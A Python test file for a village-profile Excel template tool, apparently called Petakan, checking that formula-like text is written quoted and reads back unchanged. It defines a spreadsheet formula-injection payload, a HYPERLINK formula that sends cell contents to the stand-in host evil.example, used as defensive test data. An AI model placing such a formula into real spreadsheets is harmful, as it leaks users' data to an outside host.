"""Profile text that looks like a formula leaves the template quoted (no live formula in the file) and comes back
unchanged when the same template is read again: the quote is Petakan's, not a change by the village."""

from __future__ import annotations

import io

import pandas as pd
from openpyxl import load_workbook

from petakan.lib.profile import DemoInputs, Schema, diff, frame_to_records, read_workbook, template_rows, write_template

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"klik")'


def test_formula_text_is_quoted_in_the_template_and_reads_back_as_written(
    schema: Schema, demo_inputs: DemoInputs, demo_profiles: pd.DataFrame
) -> None:
    villages = demo_inputs.villages.head(3)
    profiles = demo_profiles.loc[list(villages["code"])].copy()  # indexed by village code
    profiles["flagship_product"] = [FORMULA, "-5", "Keripik tempe"]
    buffer = io.BytesIO()
    write_template(schema, template_rows(schema, profiles, villages), buffer, lang="id", year=2024)

    cells = [c for ws in load_workbook(io.BytesIO(buffer.getvalue())).worksheets for r in ws.iter_rows() for c in r]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {"'" + FORMULA, "'-5", "Keripik tempe"} <= {c.value for c in cells}

    codes = set(villages["code"])
    result = read_workbook(schema, buffer.getvalue(), allowed_codes=codes, known_codes=codes)
    assert result.ok, [p.describe() for p in result.problems]
    assert diff(frame_to_records(schema, profiles), result.rows) == []
    assert sorted(row["flagship_product"] for row in result.rows.values()) == sorted([FORMULA, "-5", "Keripik tempe"])
